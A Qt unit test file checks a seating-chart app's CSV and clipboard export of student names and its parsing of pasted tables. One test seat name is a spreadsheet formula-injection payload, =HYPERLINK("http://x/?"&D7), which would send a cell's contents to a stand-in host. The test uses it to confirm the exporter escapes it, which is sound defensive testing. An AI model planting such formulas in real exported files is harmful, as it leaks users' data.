// The chart as a CSV file and as clipboard rows, and tables pasted from elsewhere.
#include "core/chartexport.h"
#include "core/pastedtable.h"
#include "core/sharedstate.h"

#include <QRandomGenerator>
#include <QtTest>

#include <utility>

namespace
{

// A strict RFC 4180 reader: records end at CR LF, a quoted field may hold anything.
QList<QStringList> readCsv(const QString &text)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c != u'"')
                field += c;
            else if (i + 1 < text.size() && text.at(i + 1) == u'"')
                field += text.at(++i);
            else
                quoted = false;
        } else if (c == u'"' && field.isEmpty()) {
            quoted = true;
        } else if (c == u',') {
            record.append(std::exchange(field, {}));
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            record.append(std::exchange(field, {}));
            records.append(std::exchange(record, {}));
            ++i;
        } else {
            field += c;
        }
    }
    if (quoted || !field.isEmpty() || !record.isEmpty())
        records.append({QStringLiteral("<unterminated>")});
    return records;
}

QStringList seatsWith(const QMap<int, QString> &names)
{
    QStringList seats(SeatCount);
    for (auto it = names.cbegin(); it != names.cend(); ++it)
        seats[it.key() - 1] = it.value();
    return seats;
}

} // namespace

class TestTables : public QObject
{
    Q_OBJECT

private slots:
    void csvBytes();
    void csvAndClipboardGiveNamesBack();
    void pasted_data();
    void pasted();
    void pastedLimits_data();
    void pastedLimits();
};

void TestTables::csvBytes()
{
    // A spreadsheet would evaluate a name starting with = + - @ TAB or CR.
    const QStringList seats = seatsWith({{1, QStringLiteral("山田 太郎")},
                                         {2, QStringLiteral(" ")}, // an empty seat
                                         {3, QStringLiteral("=HYPERLINK(\"http://x/?\"&D7)")},
                                         {4, QStringLiteral("+1")},
                                         {5, QStringLiteral("佐藤,花子")},
                                         {6, QStringLiteral("\"ｱｲ\"")},
                                         {9, QStringLiteral("-山田")},
                                         {10, QStringLiteral("@A1")},
                                         {11, QStringLiteral("\t山田")},
                                         {12, QStringLiteral("\r山田")},
                                         {13, QStringLiteral("山田=1")},
                                         {27, QStringLiteral("一\r\n二")},
                                         {28, QStringLiteral(" 前後 ")}});
    const QByteArray expected =
        QByteArray("\xEF\xBB\xBF") + QStringLiteral("座席番号,列,列内の位置,氏名\r\n"
                                                    "1,1,1,山田 太郎\r\n"
                                                    "2,1,2,\r\n"
                                                    "3,1,3,\"'=HYPERLINK(\"\"http://x/?\"\"&D7)\"\r\n"
                                                    "4,1,4,'+1\r\n"
                                                    "5,2,1,\"佐藤,花子\"\r\n"
                                                    "6,2,2,\"\"\"ｱｲ\"\"\"\r\n"
                                                    "7,2,3,\r\n8,2,4,\r\n"
                                                    "9,3,1,'-山田\r\n10,3,2,'@A1\r\n11,3,3,'\t山田\r\n"
                                                    "12,3,4,\"'\r山田\"\r\n13,4,1,山田=1\r\n"
                                                    "14,4,2,\r\n15,4,3,\r\n16,4,4,\r\n"
                                                    "17,5,1,\r\n18,5,2,\r\n19,5,3,\r\n20,5,4,\r\n"
                                                    "21,6,1,\r\n22,6,2,\r\n23,6,3,\r\n24,6,4,\r\n"
                                                    "25,7,1,\r\n26,7,2,\r\n"
                                                    "27,7,3,\"一\r\n二\"\r\n"
                                                    "28,7,4, 前後 \r\n")
                                         .toUtf8();
    QCOMPARE(chartCsv(seats), expected);
}

// Generated charts written as CSV and as clipboard rows read back name for name: the CSV
// with a strict reader, the clipboard rows with the reader the roster editor pastes with.
void TestTables::csvAndClipboardGiveNamesBack()
{
    const QStringList pieces{"山", "田", "ｱ", "か", " ", "　", ",", "\"", "\t", "\r\n", "\n", "a", "髙", "=", "-"};
    QRandomGenerator random(20261206);
    for (int round = 0; round < 200; ++round) {
        QStringList seats;
        for (int i = 0; i < SeatCount; ++i) {
            QString name;
            for (int k = random.bounded(5); k > 0; --k)
                name += pieces.at(random.bounded(pieces.size()));
            seats.append(name);
        }
        QStringList shown;
        for (const QString &name : seats) {
            const bool formula = QStringLiteral("=-\t\r").contains(name.left(1));
            shown.append(name.trimmed().isEmpty() ? QString() : formula ? u'\'' + name : name);
        }

        const QByteArray bytes = chartCsv(seats);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
        const QList<QStringList> records = readCsv(QString::fromUtf8(bytes.mid(3)));
        QCOMPARE(records.size(), SeatCount + 1);
        QCOMPARE(records.first(), (QStringList{"座席番号", "列", "列内の位置", "氏名"}));
        for (int seat = 1; seat <= SeatCount; ++seat) {
            QCOMPARE(records.at(seat).size(), 4);
            QCOMPARE(records.at(seat).at(0), QString::number(seat));
            QCOMPARE(records.at(seat).at(3), shown.at(seat - 1));
        }

        // On screen the back row is at the top and seat numbers grow from right to left.
        const QList<QStringList> rows = splitTable(chartClipboardText(seats), u'\t');
        QCOMPARE(rows.size(), 7);
        for (int r = 0; r < 7; ++r) {
            const int front = (6 - r) * 4; // index of the row's seat drawn rightmost
            QCOMPARE(rows.at(r),
                     (QStringList{shown.at(front + 3), shown.at(front + 2), shown.at(front + 1), shown.at(front)}));
        }
    }
}

void TestTables::pasted_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QStringList>("labels");  // of the columns, to choose from
    QTest::addColumn<int>("proposed");        // the column proposed
    QTest::addColumn<QStringList>("names");   // of the proposed column
    QTest::addColumn<QStringList>("another"); // of the column after it, if any

    QTest::newRow("spreadsheet column, trailing CR LF")
        << "山田 太郎\r\n佐藤 花子\r\n"
        << QStringList{"1列目：山田 太郎"} << 0 << QStringList{"山田 太郎", "佐藤 花子"} << QStringList();
    QTest::newRow("spreadsheet rows with numbers first")
        << "1\t山田\tやまだ\r\n2\t佐藤\tさとう\r\n"
        << QStringList{"1列目：1", "2列目：山田", "3列目：やまだ"} << 1 << QStringList{"山田", "佐藤"}
        << QStringList{"やまだ", "さとう"};
    QTest::newRow("header row names the column")
        << "番号\t名前（ふりがな）\t氏名\r\n1\tやまだ\t山田\r\n2\t\t\r\n3\tさとう\t佐藤\r\n"
        << QStringList{"1列目：番号", "2列目：名前（ふりがな）", "3列目：氏名"} << 2 << QStringList{"山田", "佐藤"}
        << QStringList();
    QTest::newRow("header variant alone")
        << "No,名前（ふりがな）\r\n1,やまだ\r\n"
        << QStringList{"1列目：No", "2列目：名前（ふりがな）"} << 1 << QStringList{"やまだ"} << QStringList();
    QTest::newRow("only a header") << "氏名\r\n" << QStringList{"1列目：氏名"} << 0 << QStringList() << QStringList();
    QTest::newRow("CSV quotes hold commas, quotes and line breaks")
        << "\"山田, 太郎\",1\r\n\"佐藤\r\n花子\",2\r\n\"\"\"鈴木\"\"\",3"
        << QStringList{"1列目：山田, 太郎", "2列目：1"} << 0 << QStringList{"山田, 太郎", "佐藤\r\n花子", "\"鈴木\""}
        << QStringList{"1", "2", "3"};
    QTest::newRow("spreadsheet cell with a line break")
        << "1\t\"山田\n太郎\"\r\n2\t佐藤\r\n"
        << QStringList{"1列目：1", "2列目：山田 太郎"} << 1 << QStringList{"山田\n太郎", "佐藤"} << QStringList();
    QTest::newRow("blank rows and blanks around names")
        << "\r\n  山田 \r\n\r\n\t\r\n　鈴木　\n佐藤\r伊藤" << QStringList{"1列目：山田"} << 0
        << QStringList{"山田", "鈴木", "佐藤", "伊藤"} << QStringList();
    QTest::newRow("short rows") << "山田,やまだ,男\r\n佐藤\r\n"
                                << QStringList{"1列目：山田", "2列目：やまだ", "3列目：男"} << 0
                                << QStringList{"山田", "佐藤"} << QStringList{"やまだ"};
    QTest::newRow("an unclosed quote is a character")
        << "\"山田\r\n佐藤" << QStringList{"1列目：\"山田"} << 0 << QStringList{"\"山田", "佐藤"} << QStringList();
    QTest::newRow("empty column shown as such")
        << "\t山田\r\n\t佐藤\r\n"
        << QStringList{"1列目：（空）", "2列目：山田"} << 1 << QStringList{"山田", "佐藤"} << QStringList();
    QTest::newRow("nothing but blanks") << " \r\n\t\r\n　" << QStringList() << 0 << QStringList() << QStringList();
    QTest::newRow("empty") << "" << QStringList() << 0 << QStringList() << QStringList();
}

void TestTables::pasted()
{
    QFETCH(QString, text);
    QFETCH(QStringList, labels);
    QFETCH(int, proposed);
    QFETCH(QStringList, names);
    QFETCH(QStringList, another);
    const PastedTable table = readPastedTable(text);
    QCOMPARE(table.columnLabels(), labels);
    QCOMPARE(table.nameColumn, proposed);
    QCOMPARE(table.names(proposed), names);
    QCOMPARE(table.names(proposed + 1), another);
}

void TestTables::pastedLimits_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("tooLarge");
    QTest::addColumn<int>("cells"); // held in all: a short row is not widened
    const QString wide = QStringLiteral("氏名") + QString(MaxPastedColumns - 1, u'\t') + QStringLiteral("\r\n");
    QString rows;
    for (int n = 1; n < MaxPastedRows; ++n)
        rows += QStringLiteral("生徒%1\r\n").arg(n);
    const int cells = MaxPastedColumns + MaxPastedRows - 1;
    QTest::newRow("at the limits") << wide + rows << false << cells;
    QTest::newRow("blank rows do not count") << wide + rows + QStringLiteral(" \r\n\t\r\n") << false << cells;
    QTest::newRow("a column more") << u'\t' + wide + rows << true << 0;
    QTest::newRow("a row more") << wide + rows + QStringLiteral("生徒") << true << 0;
}

void TestTables::pastedLimits()
{
    QFETCH(QString, text);
    QFETCH(bool, tooLarge);
    QFETCH(int, cells);
    const PastedTable table = readPastedTable(text);
    QCOMPARE(table.tooLarge, tooLarge);
    int held = 0;
    for (const QStringList &row : table.rows)
        held += int(row.size());
    QCOMPARE(held, cells);
}

QTEST_MAIN(TestTables)
#include "tst_tables.moc"
